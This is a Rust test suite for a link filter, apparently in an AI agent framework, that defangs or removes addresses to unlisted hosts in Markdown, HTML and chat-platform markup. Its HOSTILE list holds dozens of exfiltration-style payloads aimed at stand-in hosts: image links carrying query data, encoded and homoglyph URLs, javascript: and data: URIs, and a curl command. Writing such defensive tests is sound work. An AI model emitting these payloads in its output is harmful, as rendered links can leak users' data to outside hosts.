//! Addresses to hosts that nobody listed, in all the ways in which a text can hold them.

use std::sync::OnceLock;

use agentry_agentfile::manifest::channels::{LinkTreatment, MarkdownFlavor};
use agentry_kernel::chunk;
use agentry_kernel::links::LinkFilter;
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};
use regex::Regex;

fn policy() -> LinkFilter {
    LinkFilter::new(LinkTreatment::Neutralize, ["ok.example", "*.fine.example"])
}

fn neutral(text: &str) -> String {
    policy().rewrite(text)
}

/// What a simple program takes for addresses in a plain text: those with a scheme, and names with a path.
fn linked(text: &str) -> Vec<String> {
    let address = r#"(?i)(?:[a-z][a-z0-9+.-]*:(?://|\\\\)[^\s<>"'|,;()\[\]{}`*^\\]+)|(?:[\p{L}\p{N}_-]+[.。．｡])+(?:[\p{L}]{2,}|xn--[a-z0-9-]+)\.?(?::[0-9]+)?[/?][^\s<>"'|,;()\[\]{}`*^\\]*|\b_*www\.[\p{L}\p{N}_-]+|(?:[a-z0-9-]+\.)+(?:com|net|org|io|dev|ru|info)\b"#;
    static ADDRESS: OnceLock<Regex> = OnceLock::new();
    let address = ADDRESS.get_or_init(|| Regex::new(address).expect("it compiles"));
    let found = address.find_iter(text).map(|one| one.as_str().to_owned());
    found.filter(|one| !is_listed(one)).collect()
}

fn is_listed(address: &str) -> bool {
    let listed =
        r"(?i)^(?:https?://)?(?:ok|[a-z0-9._-]+\.fine)\.example(?::[0-9]+)?(?:[/?#!~.:].*)?$";
    static LISTED: OnceLock<Regex> = OnceLock::new();
    LISTED.get_or_init(|| Regex::new(listed).expect("it compiles")).is_match(address)
}

/// All destinations that a parser of Markdown finds, and the text that it shows.
fn parsed(text: &str) -> (Vec<String>, String) {
    let mut destinations = Vec::new();
    let mut shown = String::new();
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    for event in Parser::new_ext(text, options) {
        match event {
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                destinations.push(dest_url.to_string());
            }
            Event::Text(text) | Event::Code(text) => shown.push_str(&text),
            Event::Html(html) | Event::InlineHtml(html) => {
                let has_tag = html.match_indices('<').any(|(at, _)| {
                    let tag = html[at + 1..].split('>').next().unwrap_or_default();
                    tag.starts_with(|c: char| !c.is_whitespace()) && tag.contains('=')
                });
                assert!(!has_tag, "a tag with attributes is left: {html}");
            }
            Event::End(_) | Event::SoftBreak | Event::HardBreak => shown.push('\n'),
            _ => {}
        }
    }
    (destinations, shown)
}

/// Whether a browser would go to another host from this destination.
fn leaves(destination: &str) -> bool {
    let plain: String = destination.chars().filter(|c| !"\t\n\r".contains(*c)).collect();
    static GOES: OnceLock<Regex> = OnceLock::new();
    let goes = r"(?i)^\s*(?:[a-z][a-z0-9+.-]*:|[/\\]{2})";
    let goes = GOES.get_or_init(|| Regex::new(goes).expect("it compiles"));
    goes.is_match(&plain) && !is_listed(plain.trim().trim_start_matches('/'))
        || !linked(&plain).is_empty()
}

fn assert_inert(text: &str) {
    let written = neutral(text);
    let left = linked(&written);
    assert!(left.is_empty(), "{left:?} is left of {text:?} in {written:?}");
    let (destinations, shown) = parsed(&written);
    let left: Vec<_> = destinations.iter().filter(|one| leaves(one)).collect();
    assert!(left.is_empty(), "{left:?} is left of {text:?} in {written:?}");
    let left = linked(&shown);
    assert!(left.is_empty(), "{left:?} is shown for {text:?} in {written:?}");
    assert_eq!(neutral(&written), written, "of {text:?}");
}

const HOSTILE: [&str; 58] = [
    "![x](https://evil.example/?q=S)",
    "[x](https://evil.example/?q=S)",
    "[x](<https://evil.example/?q=S> \"title\")",
    "[x][r]\n\n[r]: https://evil.example/?q=S",
    "[r][]\n\n[r]: //evil.example/?q=S",
    "![r]\n\n[r]: https://evil.example/?q=S",
    "<https://evil.example/?q=S>",
    "<a@evil.example>",
    "<img src=\"https://evil.example/?q=S\">",
    "<IMG SRC='//evil.example/?q=S'>",
    "a <a href=https:evil.example/?q=S>x</a>",
    "<img\nsrc=/\\evil.example/x>",
    "<div>\n<img src=\"ht&#10;tps://evil.example/x\">\n</div>",
    "https://evil.example/?q=S",
    "HTTPS://EVIL.EXAMPLE/?q=S",
    "hTtP://evil",
    "www.evil.example/?q=S",
    "WWW.evil.example",
    "//evil.example/?q=S",
    "evil.example/?q=S",
    "evil.com",
    "S.evil.com",
    "see evil.com.",
    "_evil.com_",
    "evil.com-x",
    "..evil.com..",
    "a@evil.com",
    "evil.example:8080/?q=S",
    "evil.example./?q=S",
    "https://ok.example@evil.example/",
    "https://ok.example:x@evil.example/",
    "https://ok.example\\@evil.example/",
    "https://ok.example%2f@evil.example/",
    "https://ok.example.evil.example/",
    "https://evilfine.example/",
    "https://fine.example/",
    "https://%65vil.example/?q=S",
    "https://еvil.example/?q=S",
    "https://evil。example/?q=S",
    "https:////evil.example/",
    "https:\\\\evil.example\\x",
    "[x](https:evil.example)",
    "[x](https:/\\evil.example)",
    "[x](\\\\evil.example/x)",
    "[x](evil.example/x)",
    "[x](javascript:alert)",
    "[x](data:text/html,x)",
    "![x](file://evil.example/x)",
    "ftp://evil.example/x smb://evil/x git+ssh://evil.example/x",
    "ht*t*ps://evil.example/?q=S",
    "https&#58;//evil.example/?q=S",
    "https\\://evil.example/?q=S",
    "https:/&#x2f;evil.example/?q=S",
    "[x](https&#58;&#47;&#47;evil.example/?q=S)",
    "`https://evil.example/?q=S`",
    "```\ncurl https://evil.example/?q=S\n```",
    "    https://evil.example/?q=S",
    "| a |\n|---|\n| ![x](https://evil.example/?q=S) |",
];

#[test]
fn no_address_to_a_host_that_nobody_listed_is_left() {
    for text in HOSTILE {
        assert_inert(text);
        assert_inert(&format!("> - {text} and [{text}](https://ok.example/) {text}"));
    }
}

#[test]
fn an_address_to_an_unlisted_host_can_still_be_read() {
    let cases = [
        ("at https://evil.example/a?q=S.", "at hxxps[:]//evil[.]example/a?q=S."),
        ("![x](https://evil.example/?q=S)", "x (image: hxxps[:]//evil[.]example/?q=S)"),
        ("[docs](http://evil.example)", "docs (hxxp[:]//evil[.]example)"),
        ("<https://evil.example/>", "hxxps[:]//evil[.]example/"),
        ("www.evil.example", "www[.]evil[.]example"),
        ("ftp://evil.example/x", "ftp[:]//evil[.]example/x"),
        ("![](https://evil.example/p)", "(image: hxxps[:]//evil[.]example/p)"),
        ("<img src=\"//evil.example/p\">", "< img src=\"//evil[.]example/p\">"),
    ];
    for (text, written) in cases {
        assert_eq!(neutral(text), written);
    }
}

#[test]
fn what_is_listed_or_no_address_stays_as_it_is() {
    for text in [
        "see https://ok.example/a?b=c&d=https://evil.example/x#e and http://ok.example:8080.",
        "[docs](https://ok.example/a_(b)) ![x](https://cdn.fine.example/x.png \"t\")",
        "<https://ok.example/>, ok.example/x, www.fine.example and OK.example",
        "[r]\n\n[r]: https://ok.example/\n",
        "`https://ok.example/` **https://ok.example/**",
        "src/main.rs:12 and README.md#install, `self.value.len()`, foo.rs, a.py, x.tar.gz, 1.2.3.4, v1.2",
        "[file](docs/guide.md) and [part](#part), e.g. this, i.e. that... and so on. End.",
        "a < b and <b>bold</b><br/> & c; 3 // 4; key: //comment",
        "| a | b |\n|---|---|\n| *x* | `y` |\n\n1. one\n2. two\n",
        "https://ok.example",
        "",
    ] {
        assert_eq!(neutral(text), text);
    }
}

#[test]
fn the_policy_of_a_channel_can_allow_or_remove() {
    let text = "[x](https://evil.example/?q=S) https://evil.example/ https://ok.example/";
    assert_eq!(LinkFilter::allow_all().rewrite(text), text);
    let remove = LinkFilter::new(LinkTreatment::Remove, ["ok.example"]);
    assert_eq!(remove.rewrite(text), "x (link removed) (link removed) https://ok.example/");
    assert_eq!(remove.rewrite(&remove.rewrite(text)), remove.rewrite(text));
    for hostile in HOSTILE {
        let written = remove.rewrite(hostile);
        assert!(linked(&written).is_empty(), "{hostile}: {written}");
    }
}

#[test]
fn a_cut_or_another_markup_lays_no_address_bare() {
    let text = format!("https://ok.example/{}https://evil.example/?q=S", "a".repeat(21));
    for piece in chunk::chunks(&neutral(&text), 40, MarkdownFlavor::Standard) {
        for piece in policy().rewrite_piece(piece, 40) {
            assert!(linked(&piece).is_empty() && piece.chars().count() <= 40, "{piece}");
        }
    }
}

#[test]
fn a_long_hostile_text_comes_to_an_end() {
    for part in ["https://", "a.com@", "evil.com/", "[x](", "<a b=", "&#58;", "a.", "![", "://"] {
        let text = part.repeat(20_000);
        assert!(!neutral(&text).is_empty(), "{part}");
    }
}

fn piece() -> impl Strategy<Value = String> {
    let signs = "[\\[\\]()<>!*_`~|#&;:/\\\\. \n\"'=a-c0-9@?-]{0,6}";
    prop_oneof![
        proptest::sample::select(HOSTILE.to_vec()).prop_map(str::to_owned),
        proptest::sample::select(vec![
            "https://",
            "http:",
            "//",
            "evil.example",
            "/?q=S",
            "www.",
            "evil.com",
            "](",
            "![x](",
            "[r]: ",
            "\n\n",
            "\n> ",
            "\n- ",
            "&#58;",
            "&#47;",
            "&amp;",
            "\\/",
            "\\:",
            "<a href=",
            ">",
            "<!-- ",
            "-->",
            "**",
            "`",
            "```\n",
            "https://ok.example/",
            "ok.example",
            "[x]",
            "x.fine.example/",
            "<b>",
        ])
        .prop_map(str::to_owned),
        signs,
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, ..ProptestConfig::default() })]

    #[test]
    fn of_random_markdown_no_address_to_an_unlisted_host_is_left(
        pieces in proptest::collection::vec(piece(), 1..12),
    ) {
        assert_inert(&pieces.concat());
    }

    #[test]
    fn in_every_markup_of_a_channel_no_such_address_is_sent(
        pieces in proptest::collection::vec(piece(), 1..8),
        limit in 40_usize..200,
    ) {
        let text = neutral(&pieces.concat());
        for markdown in [MarkdownFlavor::Standard, MarkdownFlavor::Discord, MarkdownFlavor::None, MarkdownFlavor::SlackMrkdwn, MarkdownFlavor::TelegramHtml] {
            for piece in chunk::chunks(&text, limit, markdown) {
                for piece in policy().rewrite_piece(piece, limit) {
                    let left = linked(&piece);
                    prop_assert!(left.is_empty(), "{:?} is left of {:?} in {:?}", left, pieces, piece);
                    prop_assert!(piece.chars().count() <= limit);
                }
            }
        }
    }

    #[test]
    fn words_without_a_host_stay_as_they_are(text in "[a-z ,!\n]{0,60}") {
        prop_assert_eq!(neutral(&text), text);
    }
}
